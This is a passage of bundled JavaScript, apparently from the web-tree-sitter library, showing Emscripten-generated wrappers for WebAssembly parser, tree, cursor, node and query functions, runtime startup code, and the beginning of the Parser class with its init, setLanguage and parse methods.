          var _ts_query_is_pattern_guaranteed_at_step = Module["_ts_query_is_pattern_guaranteed_at_step"] = (a0, a1) => (_ts_query_is_pattern_guaranteed_at_step = Module["_ts_query_is_pattern_guaranteed_at_step"] = wasmExports["ts_query_is_pattern_guaranteed_at_step"])(a0, a1);
          var _ts_query_disable_capture = Module["_ts_query_disable_capture"] = (a0, a1, a2) => (_ts_query_disable_capture = Module["_ts_query_disable_capture"] = wasmExports["ts_query_disable_capture"])(a0, a1, a2);
          var _ts_query_disable_pattern = Module["_ts_query_disable_pattern"] = (a0, a1) => (_ts_query_disable_pattern = Module["_ts_query_disable_pattern"] = wasmExports["ts_query_disable_pattern"])(a0, a1);
          var _ts_tree_copy = Module["_ts_tree_copy"] = (a0) => (_ts_tree_copy = Module["_ts_tree_copy"] = wasmExports["ts_tree_copy"])(a0);
          var _ts_tree_delete = Module["_ts_tree_delete"] = (a0) => (_ts_tree_delete = Module["_ts_tree_delete"] = wasmExports["ts_tree_delete"])(a0);
          var _ts_init = Module["_ts_init"] = () => (_ts_init = Module["_ts_init"] = wasmExports["ts_init"])();
          var _ts_parser_new_wasm = Module["_ts_parser_new_wasm"] = () => (_ts_parser_new_wasm = Module["_ts_parser_new_wasm"] = wasmExports["ts_parser_new_wasm"])();
          var _ts_parser_enable_logger_wasm = Module["_ts_parser_enable_logger_wasm"] = (a0, a1) => (_ts_parser_enable_logger_wasm = Module["_ts_parser_enable_logger_wasm"] = wasmExports["ts_parser_enable_logger_wasm"])(a0, a1);
          var _ts_parser_parse_wasm = Module["_ts_parser_parse_wasm"] = (a0, a1, a2, a3, a4) => (_ts_parser_parse_wasm = Module["_ts_parser_parse_wasm"] = wasmExports["ts_parser_parse_wasm"])(a0, a1, a2, a3, a4);
          var _ts_parser_included_ranges_wasm = Module["_ts_parser_included_ranges_wasm"] = (a0) => (_ts_parser_included_ranges_wasm = Module["_ts_parser_included_ranges_wasm"] = wasmExports["ts_parser_included_ranges_wasm"])(a0);
          var _ts_language_type_is_named_wasm = Module["_ts_language_type_is_named_wasm"] = (a0, a1) => (_ts_language_type_is_named_wasm = Module["_ts_language_type_is_named_wasm"] = wasmExports["ts_language_type_is_named_wasm"])(a0, a1);
          var _ts_language_type_is_visible_wasm = Module["_ts_language_type_is_visible_wasm"] = (a0, a1) => (_ts_language_type_is_visible_wasm = Module["_ts_language_type_is_visible_wasm"] = wasmExports["ts_language_type_is_visible_wasm"])(a0, a1);
          var _ts_language_supertypes_wasm = Module["_ts_language_supertypes_wasm"] = (a0) => (_ts_language_supertypes_wasm = Module["_ts_language_supertypes_wasm"] = wasmExports["ts_language_supertypes_wasm"])(a0);
          var _ts_language_subtypes_wasm = Module["_ts_language_subtypes_wasm"] = (a0, a1) => (_ts_language_subtypes_wasm = Module["_ts_language_subtypes_wasm"] = wasmExports["ts_language_subtypes_wasm"])(a0, a1);
          var _ts_tree_root_node_wasm = Module["_ts_tree_root_node_wasm"] = (a0) => (_ts_tree_root_node_wasm = Module["_ts_tree_root_node_wasm"] = wasmExports["ts_tree_root_node_wasm"])(a0);
          var _ts_tree_root_node_with_offset_wasm = Module["_ts_tree_root_node_with_offset_wasm"] = (a0) => (_ts_tree_root_node_with_offset_wasm = Module["_ts_tree_root_node_with_offset_wasm"] = wasmExports["ts_tree_root_node_with_offset_wasm"])(a0);
          var _ts_tree_edit_wasm = Module["_ts_tree_edit_wasm"] = (a0) => (_ts_tree_edit_wasm = Module["_ts_tree_edit_wasm"] = wasmExports["ts_tree_edit_wasm"])(a0);
          var _ts_tree_included_ranges_wasm = Module["_ts_tree_included_ranges_wasm"] = (a0) => (_ts_tree_included_ranges_wasm = Module["_ts_tree_included_ranges_wasm"] = wasmExports["ts_tree_included_ranges_wasm"])(a0);
          var _ts_tree_get_changed_ranges_wasm = Module["_ts_tree_get_changed_ranges_wasm"] = (a0, a1) => (_ts_tree_get_changed_ranges_wasm = Module["_ts_tree_get_changed_ranges_wasm"] = wasmExports["ts_tree_get_changed_ranges_wasm"])(a0, a1);
          var _ts_tree_cursor_new_wasm = Module["_ts_tree_cursor_new_wasm"] = (a0) => (_ts_tree_cursor_new_wasm = Module["_ts_tree_cursor_new_wasm"] = wasmExports["ts_tree_cursor_new_wasm"])(a0);
          var _ts_tree_cursor_copy_wasm = Module["_ts_tree_cursor_copy_wasm"] = (a0) => (_ts_tree_cursor_copy_wasm = Module["_ts_tree_cursor_copy_wasm"] = wasmExports["ts_tree_cursor_copy_wasm"])(a0);
          var _ts_tree_cursor_delete_wasm = Module["_ts_tree_cursor_delete_wasm"] = (a0) => (_ts_tree_cursor_delete_wasm = Module["_ts_tree_cursor_delete_wasm"] = wasmExports["ts_tree_cursor_delete_wasm"])(a0);
          var _ts_tree_cursor_reset_wasm = Module["_ts_tree_cursor_reset_wasm"] = (a0) => (_ts_tree_cursor_reset_wasm = Module["_ts_tree_cursor_reset_wasm"] = wasmExports["ts_tree_cursor_reset_wasm"])(a0);
          var _ts_tree_cursor_reset_to_wasm = Module["_ts_tree_cursor_reset_to_wasm"] = (a0, a1) => (_ts_tree_cursor_reset_to_wasm = Module["_ts_tree_cursor_reset_to_wasm"] = wasmExports["ts_tree_cursor_reset_to_wasm"])(a0, a1);
          var _ts_tree_cursor_goto_first_child_wasm = Module["_ts_tree_cursor_goto_first_child_wasm"] = (a0) => (_ts_tree_cursor_goto_first_child_wasm = Module["_ts_tree_cursor_goto_first_child_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_wasm"])(a0);
          var _ts_tree_cursor_goto_last_child_wasm = Module["_ts_tree_cursor_goto_last_child_wasm"] = (a0) => (_ts_tree_cursor_goto_last_child_wasm = Module["_ts_tree_cursor_goto_last_child_wasm"] = wasmExports["ts_tree_cursor_goto_last_child_wasm"])(a0);
          var _ts_tree_cursor_goto_first_child_for_index_wasm = Module["_ts_tree_cursor_goto_first_child_for_index_wasm"] = (a0) => (_ts_tree_cursor_goto_first_child_for_index_wasm = Module["_ts_tree_cursor_goto_first_child_for_index_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_index_wasm"])(a0);
          var _ts_tree_cursor_goto_first_child_for_position_wasm = Module["_ts_tree_cursor_goto_first_child_for_position_wasm"] = (a0) => (_ts_tree_cursor_goto_first_child_for_position_wasm = Module["_ts_tree_cursor_goto_first_child_for_position_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_position_wasm"])(a0);
          var _ts_tree_cursor_goto_next_sibling_wasm = Module["_ts_tree_cursor_goto_next_sibling_wasm"] = (a0) => (_ts_tree_cursor_goto_next_sibling_wasm = Module["_ts_tree_cursor_goto_next_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_next_sibling_wasm"])(a0);
          var _ts_tree_cursor_goto_previous_sibling_wasm = Module["_ts_tree_cursor_goto_previous_sibling_wasm"] = (a0) => (_ts_tree_cursor_goto_previous_sibling_wasm = Module["_ts_tree_cursor_goto_previous_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_previous_sibling_wasm"])(a0);
          var _ts_tree_cursor_goto_descendant_wasm = Module["_ts_tree_cursor_goto_descendant_wasm"] = (a0, a1) => (_ts_tree_cursor_goto_descendant_wasm = Module["_ts_tree_cursor_goto_descendant_wasm"] = wasmExports["ts_tree_cursor_goto_descendant_wasm"])(a0, a1);
          var _ts_tree_cursor_goto_parent_wasm = Module["_ts_tree_cursor_goto_parent_wasm"] = (a0) => (_ts_tree_cursor_goto_parent_wasm = Module["_ts_tree_cursor_goto_parent_wasm"] = wasmExports["ts_tree_cursor_goto_parent_wasm"])(a0);
          var _ts_tree_cursor_current_node_type_id_wasm = Module["_ts_tree_cursor_current_node_type_id_wasm"] = (a0) => (_ts_tree_cursor_current_node_type_id_wasm = Module["_ts_tree_cursor_current_node_type_id_wasm"] = wasmExports["ts_tree_cursor_current_node_type_id_wasm"])(a0);
          var _ts_tree_cursor_current_node_state_id_wasm = Module["_ts_tree_cursor_current_node_state_id_wasm"] = (a0) => (_ts_tree_cursor_current_node_state_id_wasm = Module["_ts_tree_cursor_current_node_state_id_wasm"] = wasmExports["ts_tree_cursor_current_node_state_id_wasm"])(a0);
          var _ts_tree_cursor_current_node_is_named_wasm = Module["_ts_tree_cursor_current_node_is_named_wasm"] = (a0) => (_ts_tree_cursor_current_node_is_named_wasm = Module["_ts_tree_cursor_current_node_is_named_wasm"] = wasmExports["ts_tree_cursor_current_node_is_named_wasm"])(a0);
          var _ts_tree_cursor_current_node_is_missing_wasm = Module["_ts_tree_cursor_current_node_is_missing_wasm"] = (a0) => (_ts_tree_cursor_current_node_is_missing_wasm = Module["_ts_tree_cursor_current_node_is_missing_wasm"] = wasmExports["ts_tree_cursor_current_node_is_missing_wasm"])(a0);
          var _ts_tree_cursor_current_node_id_wasm = Module["_ts_tree_cursor_current_node_id_wasm"] = (a0) => (_ts_tree_cursor_current_node_id_wasm = Module["_ts_tree_cursor_current_node_id_wasm"] = wasmExports["ts_tree_cursor_current_node_id_wasm"])(a0);
          var _ts_tree_cursor_start_position_wasm = Module["_ts_tree_cursor_start_position_wasm"] = (a0) => (_ts_tree_cursor_start_position_wasm = Module["_ts_tree_cursor_start_position_wasm"] = wasmExports["ts_tree_cursor_start_position_wasm"])(a0);
          var _ts_tree_cursor_end_position_wasm = Module["_ts_tree_cursor_end_position_wasm"] = (a0) => (_ts_tree_cursor_end_position_wasm = Module["_ts_tree_cursor_end_position_wasm"] = wasmExports["ts_tree_cursor_end_position_wasm"])(a0);
          var _ts_tree_cursor_start_index_wasm = Module["_ts_tree_cursor_start_index_wasm"] = (a0) => (_ts_tree_cursor_start_index_wasm = Module["_ts_tree_cursor_start_index_wasm"] = wasmExports["ts_tree_cursor_start_index_wasm"])(a0);
          var _ts_tree_cursor_end_index_wasm = Module["_ts_tree_cursor_end_index_wasm"] = (a0) => (_ts_tree_cursor_end_index_wasm = Module["_ts_tree_cursor_end_index_wasm"] = wasmExports["ts_tree_cursor_end_index_wasm"])(a0);
          var _ts_tree_cursor_current_field_id_wasm = Module["_ts_tree_cursor_current_field_id_wasm"] = (a0) => (_ts_tree_cursor_current_field_id_wasm = Module["_ts_tree_cursor_current_field_id_wasm"] = wasmExports["ts_tree_cursor_current_field_id_wasm"])(a0);
          var _ts_tree_cursor_current_depth_wasm = Module["_ts_tree_cursor_current_depth_wasm"] = (a0) => (_ts_tree_cursor_current_depth_wasm = Module["_ts_tree_cursor_current_depth_wasm"] = wasmExports["ts_tree_cursor_current_depth_wasm"])(a0);
          var _ts_tree_cursor_current_descendant_index_wasm = Module["_ts_tree_cursor_current_descendant_index_wasm"] = (a0) => (_ts_tree_cursor_current_descendant_index_wasm = Module["_ts_tree_cursor_current_descendant_index_wasm"] = wasmExports["ts_tree_cursor_current_descendant_index_wasm"])(a0);
          var _ts_tree_cursor_current_node_wasm = Module["_ts_tree_cursor_current_node_wasm"] = (a0) => (_ts_tree_cursor_current_node_wasm = Module["_ts_tree_cursor_current_node_wasm"] = wasmExports["ts_tree_cursor_current_node_wasm"])(a0);
          var _ts_node_symbol_wasm = Module["_ts_node_symbol_wasm"] = (a0) => (_ts_node_symbol_wasm = Module["_ts_node_symbol_wasm"] = wasmExports["ts_node_symbol_wasm"])(a0);
          var _ts_node_field_name_for_child_wasm = Module["_ts_node_field_name_for_child_wasm"] = (a0, a1) => (_ts_node_field_name_for_child_wasm = Module["_ts_node_field_name_for_child_wasm"] = wasmExports["ts_node_field_name_for_child_wasm"])(a0, a1);
          var _ts_node_field_name_for_named_child_wasm = Module["_ts_node_field_name_for_named_child_wasm"] = (a0, a1) => (_ts_node_field_name_for_named_child_wasm = Module["_ts_node_field_name_for_named_child_wasm"] = wasmExports["ts_node_field_name_for_named_child_wasm"])(a0, a1);
          var _ts_node_children_by_field_id_wasm = Module["_ts_node_children_by_field_id_wasm"] = (a0, a1) => (_ts_node_children_by_field_id_wasm = Module["_ts_node_children_by_field_id_wasm"] = wasmExports["ts_node_children_by_field_id_wasm"])(a0, a1);
          var _ts_node_first_child_for_byte_wasm = Module["_ts_node_first_child_for_byte_wasm"] = (a0) => (_ts_node_first_child_for_byte_wasm = Module["_ts_node_first_child_for_byte_wasm"] = wasmExports["ts_node_first_child_for_byte_wasm"])(a0);
          var _ts_node_first_named_child_for_byte_wasm = Module["_ts_node_first_named_child_for_byte_wasm"] = (a0) => (_ts_node_first_named_child_for_byte_wasm = Module["_ts_node_first_named_child_for_byte_wasm"] = wasmExports["ts_node_first_named_child_for_byte_wasm"])(a0);
          var _ts_node_grammar_symbol_wasm = Module["_ts_node_grammar_symbol_wasm"] = (a0) => (_ts_node_grammar_symbol_wasm = Module["_ts_node_grammar_symbol_wasm"] = wasmExports["ts_node_grammar_symbol_wasm"])(a0);
          var _ts_node_child_count_wasm = Module["_ts_node_child_count_wasm"] = (a0) => (_ts_node_child_count_wasm = Module["_ts_node_child_count_wasm"] = wasmExports["ts_node_child_count_wasm"])(a0);
          var _ts_node_named_child_count_wasm = Module["_ts_node_named_child_count_wasm"] = (a0) => (_ts_node_named_child_count_wasm = Module["_ts_node_named_child_count_wasm"] = wasmExports["ts_node_named_child_count_wasm"])(a0);
          var _ts_node_child_wasm = Module["_ts_node_child_wasm"] = (a0, a1) => (_ts_node_child_wasm = Module["_ts_node_child_wasm"] = wasmExports["ts_node_child_wasm"])(a0, a1);
          var _ts_node_named_child_wasm = Module["_ts_node_named_child_wasm"] = (a0, a1) => (_ts_node_named_child_wasm = Module["_ts_node_named_child_wasm"] = wasmExports["ts_node_named_child_wasm"])(a0, a1);
          var _ts_node_child_by_field_id_wasm = Module["_ts_node_child_by_field_id_wasm"] = (a0, a1) => (_ts_node_child_by_field_id_wasm = Module["_ts_node_child_by_field_id_wasm"] = wasmExports["ts_node_child_by_field_id_wasm"])(a0, a1);
          var _ts_node_next_sibling_wasm = Module["_ts_node_next_sibling_wasm"] = (a0) => (_ts_node_next_sibling_wasm = Module["_ts_node_next_sibling_wasm"] = wasmExports["ts_node_next_sibling_wasm"])(a0);
          var _ts_node_prev_sibling_wasm = Module["_ts_node_prev_sibling_wasm"] = (a0) => (_ts_node_prev_sibling_wasm = Module["_ts_node_prev_sibling_wasm"] = wasmExports["ts_node_prev_sibling_wasm"])(a0);
          var _ts_node_next_named_sibling_wasm = Module["_ts_node_next_named_sibling_wasm"] = (a0) => (_ts_node_next_named_sibling_wasm = Module["_ts_node_next_named_sibling_wasm"] = wasmExports["ts_node_next_named_sibling_wasm"])(a0);
          var _ts_node_prev_named_sibling_wasm = Module["_ts_node_prev_named_sibling_wasm"] = (a0) => (_ts_node_prev_named_sibling_wasm = Module["_ts_node_prev_named_sibling_wasm"] = wasmExports["ts_node_prev_named_sibling_wasm"])(a0);
          var _ts_node_descendant_count_wasm = Module["_ts_node_descendant_count_wasm"] = (a0) => (_ts_node_descendant_count_wasm = Module["_ts_node_descendant_count_wasm"] = wasmExports["ts_node_descendant_count_wasm"])(a0);
          var _ts_node_parent_wasm = Module["_ts_node_parent_wasm"] = (a0) => (_ts_node_parent_wasm = Module["_ts_node_parent_wasm"] = wasmExports["ts_node_parent_wasm"])(a0);
          var _ts_node_child_with_descendant_wasm = Module["_ts_node_child_with_descendant_wasm"] = (a0) => (_ts_node_child_with_descendant_wasm = Module["_ts_node_child_with_descendant_wasm"] = wasmExports["ts_node_child_with_descendant_wasm"])(a0);
          var _ts_node_descendant_for_index_wasm = Module["_ts_node_descendant_for_index_wasm"] = (a0) => (_ts_node_descendant_for_index_wasm = Module["_ts_node_descendant_for_index_wasm"] = wasmExports["ts_node_descendant_for_index_wasm"])(a0);
          var _ts_node_named_descendant_for_index_wasm = Module["_ts_node_named_descendant_for_index_wasm"] = (a0) => (_ts_node_named_descendant_for_index_wasm = Module["_ts_node_named_descendant_for_index_wasm"] = wasmExports["ts_node_named_descendant_for_index_wasm"])(a0);
          var _ts_node_descendant_for_position_wasm = Module["_ts_node_descendant_for_position_wasm"] = (a0) => (_ts_node_descendant_for_position_wasm = Module["_ts_node_descendant_for_position_wasm"] = wasmExports["ts_node_descendant_for_position_wasm"])(a0);
          var _ts_node_named_descendant_for_position_wasm = Module["_ts_node_named_descendant_for_position_wasm"] = (a0) => (_ts_node_named_descendant_for_position_wasm = Module["_ts_node_named_descendant_for_position_wasm"] = wasmExports["ts_node_named_descendant_for_position_wasm"])(a0);
          var _ts_node_start_point_wasm = Module["_ts_node_start_point_wasm"] = (a0) => (_ts_node_start_point_wasm = Module["_ts_node_start_point_wasm"] = wasmExports["ts_node_start_point_wasm"])(a0);
          var _ts_node_end_point_wasm = Module["_ts_node_end_point_wasm"] = (a0) => (_ts_node_end_point_wasm = Module["_ts_node_end_point_wasm"] = wasmExports["ts_node_end_point_wasm"])(a0);
          var _ts_node_start_index_wasm = Module["_ts_node_start_index_wasm"] = (a0) => (_ts_node_start_index_wasm = Module["_ts_node_start_index_wasm"] = wasmExports["ts_node_start_index_wasm"])(a0);
          var _ts_node_end_index_wasm = Module["_ts_node_end_index_wasm"] = (a0) => (_ts_node_end_index_wasm = Module["_ts_node_end_index_wasm"] = wasmExports["ts_node_end_index_wasm"])(a0);
          var _ts_node_to_string_wasm = Module["_ts_node_to_string_wasm"] = (a0) => (_ts_node_to_string_wasm = Module["_ts_node_to_string_wasm"] = wasmExports["ts_node_to_string_wasm"])(a0);
          var _ts_node_children_wasm = Module["_ts_node_children_wasm"] = (a0) => (_ts_node_children_wasm = Module["_ts_node_children_wasm"] = wasmExports["ts_node_children_wasm"])(a0);
          var _ts_node_named_children_wasm = Module["_ts_node_named_children_wasm"] = (a0) => (_ts_node_named_children_wasm = Module["_ts_node_named_children_wasm"] = wasmExports["ts_node_named_children_wasm"])(a0);
          var _ts_node_descendants_of_type_wasm = Module["_ts_node_descendants_of_type_wasm"] = (a0, a1, a2, a3, a4, a5, a6) => (_ts_node_descendants_of_type_wasm = Module["_ts_node_descendants_of_type_wasm"] = wasmExports["ts_node_descendants_of_type_wasm"])(a0, a1, a2, a3, a4, a5, a6);
          var _ts_node_is_named_wasm = Module["_ts_node_is_named_wasm"] = (a0) => (_ts_node_is_named_wasm = Module["_ts_node_is_named_wasm"] = wasmExports["ts_node_is_named_wasm"])(a0);
          var _ts_node_has_changes_wasm = Module["_ts_node_has_changes_wasm"] = (a0) => (_ts_node_has_changes_wasm = Module["_ts_node_has_changes_wasm"] = wasmExports["ts_node_has_changes_wasm"])(a0);
          var _ts_node_has_error_wasm = Module["_ts_node_has_error_wasm"] = (a0) => (_ts_node_has_error_wasm = Module["_ts_node_has_error_wasm"] = wasmExports["ts_node_has_error_wasm"])(a0);
          var _ts_node_is_error_wasm = Module["_ts_node_is_error_wasm"] = (a0) => (_ts_node_is_error_wasm = Module["_ts_node_is_error_wasm"] = wasmExports["ts_node_is_error_wasm"])(a0);
          var _ts_node_is_missing_wasm = Module["_ts_node_is_missing_wasm"] = (a0) => (_ts_node_is_missing_wasm = Module["_ts_node_is_missing_wasm"] = wasmExports["ts_node_is_missing_wasm"])(a0);
          var _ts_node_is_extra_wasm = Module["_ts_node_is_extra_wasm"] = (a0) => (_ts_node_is_extra_wasm = Module["_ts_node_is_extra_wasm"] = wasmExports["ts_node_is_extra_wasm"])(a0);
          var _ts_node_parse_state_wasm = Module["_ts_node_parse_state_wasm"] = (a0) => (_ts_node_parse_state_wasm = Module["_ts_node_parse_state_wasm"] = wasmExports["ts_node_parse_state_wasm"])(a0);
          var _ts_node_next_parse_state_wasm = Module["_ts_node_next_parse_state_wasm"] = (a0) => (_ts_node_next_parse_state_wasm = Module["_ts_node_next_parse_state_wasm"] = wasmExports["ts_node_next_parse_state_wasm"])(a0);
          var _ts_query_matches_wasm = Module["_ts_query_matches_wasm"] = (a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10) => (_ts_query_matches_wasm = Module["_ts_query_matches_wasm"] = wasmExports["ts_query_matches_wasm"])(a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10);
          var _ts_query_captures_wasm = Module["_ts_query_captures_wasm"] = (a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10) => (_ts_query_captures_wasm = Module["_ts_query_captures_wasm"] = wasmExports["ts_query_captures_wasm"])(a0, a1, a2, a3, a4, a5, a6, a7, a8, a9, a10);
          var _iswalpha = Module["_iswalpha"] = (a0) => (_iswalpha = Module["_iswalpha"] = wasmExports["iswalpha"])(a0);
          var _iswblank = Module["_iswblank"] = (a0) => (_iswblank = Module["_iswblank"] = wasmExports["iswblank"])(a0);
          var _iswdigit = Module["_iswdigit"] = (a0) => (_iswdigit = Module["_iswdigit"] = wasmExports["iswdigit"])(a0);
          var _iswlower = Module["_iswlower"] = (a0) => (_iswlower = Module["_iswlower"] = wasmExports["iswlower"])(a0);
          var _iswupper = Module["_iswupper"] = (a0) => (_iswupper = Module["_iswupper"] = wasmExports["iswupper"])(a0);
          var _iswxdigit = Module["_iswxdigit"] = (a0) => (_iswxdigit = Module["_iswxdigit"] = wasmExports["iswxdigit"])(a0);
          var _memchr = Module["_memchr"] = (a0, a1, a2) => (_memchr = Module["_memchr"] = wasmExports["memchr"])(a0, a1, a2);
          var _strlen = Module["_strlen"] = (a0) => (_strlen = Module["_strlen"] = wasmExports["strlen"])(a0);
          var _strcmp = Module["_strcmp"] = (a0, a1) => (_strcmp = Module["_strcmp"] = wasmExports["strcmp"])(a0, a1);
          var _strncat = Module["_strncat"] = (a0, a1, a2) => (_strncat = Module["_strncat"] = wasmExports["strncat"])(a0, a1, a2);
          var _strncpy = Module["_strncpy"] = (a0, a1, a2) => (_strncpy = Module["_strncpy"] = wasmExports["strncpy"])(a0, a1, a2);
          var _towlower = Module["_towlower"] = (a0) => (_towlower = Module["_towlower"] = wasmExports["towlower"])(a0);
          var _towupper = Module["_towupper"] = (a0) => (_towupper = Module["_towupper"] = wasmExports["towupper"])(a0);
          var _setThrew = /* @__PURE__ */ __name((a0, a1) => (_setThrew = wasmExports["setThrew"])(a0, a1), "_setThrew");
          var __emscripten_stack_restore = /* @__PURE__ */ __name((a0) => (__emscripten_stack_restore = wasmExports["_emscripten_stack_restore"])(a0), "__emscripten_stack_restore");
          var __emscripten_stack_alloc = /* @__PURE__ */ __name((a0) => (__emscripten_stack_alloc = wasmExports["_emscripten_stack_alloc"])(a0), "__emscripten_stack_alloc");
          var _emscripten_stack_get_current = /* @__PURE__ */ __name(() => (_emscripten_stack_get_current = wasmExports["emscripten_stack_get_current"])(), "_emscripten_stack_get_current");
          var dynCall_jiji = Module["dynCall_jiji"] = (a0, a1, a2, a3, a4) => (dynCall_jiji = Module["dynCall_jiji"] = wasmExports["dynCall_jiji"])(a0, a1, a2, a3, a4);
          var _orig$ts_parser_timeout_micros = Module["_orig$ts_parser_timeout_micros"] = (a0) => (_orig$ts_parser_timeout_micros = Module["_orig$ts_parser_timeout_micros"] = wasmExports["orig$ts_parser_timeout_micros"])(a0);
          var _orig$ts_parser_set_timeout_micros = Module["_orig$ts_parser_set_timeout_micros"] = (a0, a1) => (_orig$ts_parser_set_timeout_micros = Module["_orig$ts_parser_set_timeout_micros"] = wasmExports["orig$ts_parser_set_timeout_micros"])(a0, a1);
          Module["setValue"] = setValue;
          Module["getValue"] = getValue;
          Module["UTF8ToString"] = UTF8ToString;
          Module["stringToUTF8"] = stringToUTF8;
          Module["lengthBytesUTF8"] = lengthBytesUTF8;
          Module["AsciiToString"] = AsciiToString;
          Module["stringToUTF16"] = stringToUTF16;
          Module["loadWebAssemblyModule"] = loadWebAssemblyModule;
          var calledRun;
          dependenciesFulfilled = /* @__PURE__ */ __name(function runCaller() {
            if (!calledRun) run();
            if (!calledRun) dependenciesFulfilled = runCaller;
          }, "runCaller");
          function callMain(args2 = []) {
            var entryFunction = resolveGlobalSymbol("main").sym;
            if (!entryFunction) return;
            args2.unshift(thisProgram);
            var argc = args2.length;
            var argv = stackAlloc((argc + 1) * 4);
            var argv_ptr = argv;
            args2.forEach((arg) => {
              LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg));
              argv_ptr += 4;
            });
            LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, 0);
            try {
              var ret = entryFunction(argc, argv);
              exitJS(
                ret,
                /* implicit = */
                true
              );
              return ret;
            } catch (e) {
              return handleException(e);
            }
          }
          __name(callMain, "callMain");
          function run(args2 = arguments_) {
            if (runDependencies > 0) {
              return;
            }
            preRun();
            if (runDependencies > 0) {
              return;
            }
            function doRun() {
              if (calledRun) return;
              calledRun = true;
              Module["calledRun"] = true;
              if (ABORT) return;
              initRuntime();
              preMain();
              readyPromiseResolve(Module);
              Module["onRuntimeInitialized"]?.();
              if (shouldRunNow) callMain(args2);
              postRun();
            }
            __name(doRun, "doRun");
            if (Module["setStatus"]) {
              Module["setStatus"]("Running...");
              setTimeout(function() {
                setTimeout(function() {
                  Module["setStatus"]("");
                }, 1);
                doRun();
              }, 1);
            } else {
              doRun();
            }
          }
          __name(run, "run");
          if (Module["preInit"]) {
            if (typeof Module["preInit"] == "function") Module["preInit"] = [Module["preInit"]];
            while (Module["preInit"].length > 0) {
              Module["preInit"].pop()();
            }
          }
          var shouldRunNow = true;
          if (Module["noInitialRun"]) shouldRunNow = false;
          run();
          moduleRtn = readyPromise;
          return moduleRtn;
        };
      })();
      var tree_sitter_default = Module2;
      var Module3 = null;
      async function initializeBinding(moduleOptions) {
        if (!Module3) {
          Module3 = await tree_sitter_default(moduleOptions);
        }
        return Module3;
      }
      __name(initializeBinding, "initializeBinding");
      function checkModule() {
        return !!Module3;
      }
      __name(checkModule, "checkModule");
      var TRANSFER_BUFFER;
      var LANGUAGE_VERSION;
      var MIN_COMPATIBLE_VERSION;
      var Parser = class {
        static {
          __name(this, "Parser");
        }
        /** @internal */
        [0] = 0;
        // Internal handle for WASM
        /** @internal */
        [1] = 0;
        // Internal handle for WASM
        /** @internal */
        logCallback = null;
        /** The parser's current language. */
        language = null;
        /**
         * This must always be called before creating a Parser.
         *
         * You can optionally pass in options to configure the WASM module, the most common
         * one being `locateFile` to help the module find the `.wasm` file.
         */
        static async init(moduleOptions) {
          setModule(await initializeBinding(moduleOptions));
          TRANSFER_BUFFER = C._ts_init();
          LANGUAGE_VERSION = C.getValue(TRANSFER_BUFFER, "i32");
          MIN_COMPATIBLE_VERSION = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
        }
        /**
         * Create a new parser.
         */
        constructor() {
          this.initialize();
        }
        /** @internal */
        initialize() {
          if (!checkModule()) {
            throw new Error("cannot construct a Parser before calling `init()`");
          }
          C._ts_parser_new_wasm();
          this[0] = C.getValue(TRANSFER_BUFFER, "i32");
          this[1] = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
        }
        /** Delete the parser, freeing its resources. */
        delete() {
          C._ts_parser_delete(this[0]);
          C._free(this[1]);
          this[0] = 0;
          this[1] = 0;
        }
        /**
         * Set the language that the parser should use for parsing.
         *
         * If the language was not successfully assigned, an error will be thrown.
         * This happens if the language was generated with an incompatible
         * version of the Tree-sitter CLI. Check the language's version using
         * {@link Language#version} and compare it to this library's
         * {@link LANGUAGE_VERSION} and {@link MIN_COMPATIBLE_VERSION} constants.
         */
        setLanguage(language) {
          let address;
          if (!language) {
            address = 0;
            this.language = null;
          } else if (language.constructor === Language) {
            address = language[0];
            const version = C._ts_language_version(address);
            if (version < MIN_COMPATIBLE_VERSION || LANGUAGE_VERSION < version) {
              throw new Error(
                `Incompatible language version ${version}. Compatibility range ${MIN_COMPATIBLE_VERSION} through ${LANGUAGE_VERSION}.`
              );
            }
            this.language = language;
          } else {
            throw new Error("Argument must be a Language");
          }
          C._ts_parser_set_language(this[0], address);
          return this;
        }
        /**
         * Parse a slice of UTF8 text.
         *
         * @param {string | ParseCallback} callback - The UTF8-encoded text to parse or a callback function.
         *
         * @param {Tree | null} [oldTree] - A previous syntax tree parsed from the same document. If the text of the
         *   document has changed since `oldTree` was created, then you must edit `oldTree` to match
         *   the new text using {@link Tree#edit}.
         *
         * @param {ParseOptions} [options] - Options for parsing the text.
         *  This can be used to set the included ranges, or a progress callback.
         *
         * @returns {Tree | null} A {@link Tree} if parsing succeeded, or `null` if:
         *  - The parser has not yet had a language assigned with {@link Parser#setLanguage}.
         *  - The progress callback returned true.
         */
        parse(callback, oldTree, options) {
          if (typeof callback === "string") {
            C.currentParseCallback = (index) => callback.slice(index);
          } else if (typeof callback === "function") {
            C.currentParseCallback = callback;
          } else {
            throw new Error("Argument must be a string or a function");
          }
          if (options?.progressCallback) {
            C.currentProgressCallback = options.progressCallback;
          } else {
            C.currentProgressCallback = null;
          }
          if (this.logCallback) {
            C.currentLogCallback = this.logCallback;
            C._ts_parser_enable_logger_wasm(this[0], 1);
          } else {
            C.currentLogCallback = null;
            C._ts_parser_enable_logger_wasm(this[0], 0);
          }
          let rangeCount = 0;
          let rangeAddress = 0;
          if (options?.includedRanges) {
            rangeCount = options.includedRanges.length;
            rangeAddress = C._calloc(rangeCount, SIZE_OF_RANGE);
            let address = rangeAddress;
            for (let i2 = 0; i2 < rangeCount; i2++) {
              marshalRange(address, options.includedRanges[i2]);
              address += SIZE_OF_RANGE;
            }
          }
          const treeAddress = C._ts_parser_parse_wasm(
            this[0],
            this[1],
            oldTree ? oldTree[0] : 0,
            rangeAddress,
            rangeCount
          );
          if (!treeAddress) {
            C.currentParseCallback = null;
            C.currentLogCallback = null;
            C.currentProgressCallback = null;
            return null;
          }
          if (!this.language) {
            throw new Error("Parser must have a language to parse");
          }
          const result = new Tree(INTERNAL, treeAddress, this.language, C.currentParseCallback);
          C.currentParseCallback = null;
          C.currentLogCallback = null;
          C.currentProgressCallback = null;
          return result;
        }
        /**
         * Instruct the parser to start the next parse from the beginning.
         *
